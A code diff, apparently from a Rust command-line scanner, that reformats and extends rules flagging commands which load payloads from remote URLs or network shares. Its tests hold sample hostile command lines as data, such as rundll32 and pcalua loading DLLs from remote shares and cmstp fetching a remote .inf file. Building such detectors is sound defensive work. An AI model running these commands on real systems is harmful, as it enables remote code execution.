@@ -13,19 +13,75 @@ use super::{Cmd, Lang};
 /// Extensions of what a download brings to run: executables, libraries,
 /// scripts, installers, archives and disk images.
 const PAYLOAD_EXTS: &[&str] = &[
-    "exe", "dll", "scr", "cpl", "ocx", "sys", "com", "msi", "msp", "msix", "appx", "appxbundle",
-    "appinstaller", "application", "xbap", "ps1", "psm1", "psd1", "bat", "cmd", "vbs", "vbe", "js",
-    "jse", "wsf", "wsh", "hta", "sct", "inf", "xsl", "lnk", "jar", "zip", "7z", "rar", "cab", "iso",
-    "img", "vhd", "vhdx", "sh", "elf", "py", "pl",
+    "exe",
+    "dll",
+    "scr",
+    "cpl",
+    "ocx",
+    "sys",
+    "com",
+    "msi",
+    "msp",
+    "msix",
+    "appx",
+    "appxbundle",
+    "appinstaller",
+    "application",
+    "xbap",
+    "ps1",
+    "psm1",
+    "psd1",
+    "bat",
+    "cmd",
+    "vbs",
+    "vbe",
+    "js",
+    "jse",
+    "wsf",
+    "wsh",
+    "hta",
+    "sct",
+    "inf",
+    "xsl",
+    "lnk",
+    "jar",
+    "zip",
+    "7z",
+    "rar",
+    "cab",
+    "iso",
+    "img",
+    "vhd",
+    "vhdx",
+    "sh",
+    "elf",
+    "py",
+    "pl",
 ];
 
 /// Programs whose arguments are not run or fetched (assignments, labels).
-const NOT_RUN: &[&str] = &["set", "setx", "title", "rem", "goto", "set-variable", "new-variable"];
+const NOT_RUN: &[&str] = &[
+    "set",
+    "setx",
+    "title",
+    "rem",
+    "goto",
+    "set-variable",
+    "new-variable",
+];
 
 /// Which generic rule `argv` (from the program at `at`) matches, and
 /// whether every host it names is a loopback one.
-pub fn matches(lang: Lang, prog: &str, argv: &[String], at: usize, c: &Cmd) -> Option<(&'static str, bool)> {
-    if is_mention(prog) || NOT_RUN.contains(&prog) || prog.starts_with('$') {
+pub fn matches(
+    lang: Lang,
+    prog: &str,
+    argv: &[String],
+    at: usize,
+    c: &Cmd,
+) -> Option<(&'static str, bool)> {
+    let assignment =
+        argv.get(1).is_some_and(|w| w == "=") || argv.first().is_some_and(|w| w.starts_with('$'));
+    if is_mention(prog) || NOT_RUN.contains(&prog) || prog.starts_with('$') || assignment {
         return None;
     }
     let rest = argv.get(at + 1..).unwrap_or_default();
@@ -39,7 +95,10 @@ pub fn matches(lang: Lang, prog: &str, argv: &[String], at: usize, c: &Cmd) -> O
             .chain(c.redirs.iter().filter_map(|r| share_host(&r.target)))
             .collect();
         if !shares.is_empty() {
-            return Some(("remote-share-argument", shares.iter().all(|h| is_loopback(h))));
+            return Some((
+                "remote-share-argument",
+                shares.iter().all(|h| is_loopback(h)),
+            ));
         }
     }
     let urls: Vec<String> = rest.iter().filter_map(|a| payload_url(a)).collect();
@@ -59,7 +118,10 @@ pub fn share_host(a: &str) -> Option<String> {
     let (sw, v) = a.split_once([':', '='])?;
     let is_switch = sw.len() <= 32
         && sw.starts_with(['/', '-'])
-        && sw[1..].trim_start_matches('-').bytes().all(|b| b.is_ascii_alphanumeric());
+        && sw[1..]
+            .trim_start_matches('-')
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric());
     if !is_switch {
         return None;
     }
@@ -92,7 +154,10 @@ pub fn payload_url(a: &str) -> Option<String> {
         return None;
     }
     let url = &a[url_start..];
-    let path = url[scheme.len() + 3..].split(['?', '#']).next().unwrap_or_default();
+    let path = url[scheme.len() + 3..]
+        .split(['?', '#'])
+        .next()
+        .unwrap_or_default();
     let (_, file) = path.rsplit_once('/')?;
     let (_, ext) = file.rsplit_once('.')?;
     let ext = ext.to_ascii_lowercase();
@@ -108,10 +173,22 @@ mod tests {
 
     #[test]
     fn payload_urls_by_extension_and_prefix() {
-        assert_eq!(payload_url("http://198.51.100.7/a.exe").as_deref(), Some("198.51.100.7"));
-        assert_eq!(payload_url("/zhttp://h.example/p/x.sct?x=1").as_deref(), Some("h.example"));
-        assert_eq!(payload_url("-url:https://h.example/x.PS1").as_deref(), Some("h.example"));
-        assert_eq!(payload_url("\"https://h.example/setup.msi\"").as_deref(), Some("h.example"));
+        assert_eq!(
+            payload_url("http://198.51.100.7/a.exe").as_deref(),
+            Some("198.51.100.7")
+        );
+        assert_eq!(
+            payload_url("/zhttp://h.example/p/x.sct?x=1").as_deref(),
+            Some("h.example")
+        );
+        assert_eq!(
+            payload_url("-url:https://h.example/x.PS1").as_deref(),
+            Some("h.example")
+        );
+        assert_eq!(
+            payload_url("\"https://h.example/setup.msi\"").as_deref(),
+            Some("h.example")
+        );
         assert!(payload_url("https://h.example/docs/index.html").is_none());
         assert!(payload_url("https://h.example/").is_none());
         assert!(payload_url("s|https://h.example/a.sh|x|").is_none());
@@ -120,32 +197,52 @@ mod tests {
 
     #[test]
     fn shares_as_words_and_switch_values() {
-        assert_eq!(share_host("\\\\203.0.113.9\\share\\x.dll").as_deref(), Some("203.0.113.9"));
-        assert_eq!(share_host("/format:\"\\\\h.example\\s\\x.xsl\"").as_deref(), Some("h.example"));
+        assert_eq!(
+            share_host("\\\\203.0.113.9\\share\\x.dll").as_deref(),
+            Some("203.0.113.9")
+        );
+        assert_eq!(
+            share_host("/format:\"\\\\h.example\\s\\x.xsl\"").as_deref(),
+            Some("h.example")
+        );
         assert!(share_host("C:\\Windows\\x.dll").is_none());
         assert!(share_host("/format:list").is_none());
     }
 
     fn cmd(words: &[&str]) -> (Vec<String>, Cmd) {
         let argv: Vec<String> = words.iter().map(|w| w.to_string()).collect();
-        let c = Cmd { argv: argv.clone(), ..Default::default() };
+        let c = Cmd {
+            argv: argv.clone(),
+            ..Default::default()
+        };
         (argv, c)
     }
 
     #[test]
     fn any_program_but_text_and_assignments() {
         let (a, c) = cmd(&["pcalua", "-a", "\\\\203.0.113.9\\share\\p.dll"]);
-        assert_eq!(matches(Lang::Batch, "pcalua", &a, 0, &c), Some(("remote-share-argument", false)));
+        assert_eq!(
+            matches(Lang::Batch, "pcalua", &a, 0, &c),
+            Some(("remote-share-argument", false))
+        );
         let (a, c) = cmd(&["rundll32", "\\\\localhost\\c$\\p.dll,Run"]);
-        assert_eq!(matches(Lang::Batch, "rundll32", &a, 0, &c), Some(("remote-share-argument", true)));
+        assert_eq!(
+            matches(Lang::Batch, "rundll32", &a, 0, &c),
+            Some(("remote-share-argument", true))
+        );
         let (a, c) = cmd(&["cp", "//srv/share/x", "/tmp"]);
         assert_eq!(matches(Lang::Sh, "cp", &a, 0, &c), None);
         let (a, c) = cmd(&["echo", "\\\\h.example\\s\\x.exe"]);
         assert_eq!(matches(Lang::Batch, "echo", &a, 0, &c), None);
         let (a, c) = cmd(&["set", "S=\\\\h.example\\s\\x.exe"]);
         assert_eq!(matches(Lang::Batch, "set", &a, 0, &c), None);
+        let (a, c) = cmd(&["$u", "=", "https://h.example/setup.exe"]);
+        assert_eq!(matches(Lang::PowerShell, "=", &a, 1, &c), None);
         let (a, c) = cmd(&["cmstp", "/ni", "/s", "http://198.51.100.7/p.inf"]);
-        assert_eq!(matches(Lang::Batch, "cmstp", &a, 0, &c), Some(("payload-url-argument", false)));
+        assert_eq!(
+            matches(Lang::Batch, "cmstp", &a, 0, &c),
+            Some(("payload-url-argument", false))
+        );
         let (a, c) = cmd(&["start", "https://docs.example/help.html"]);
         assert_eq!(matches(Lang::Batch, "start", &a, 0, &c), None);
     }
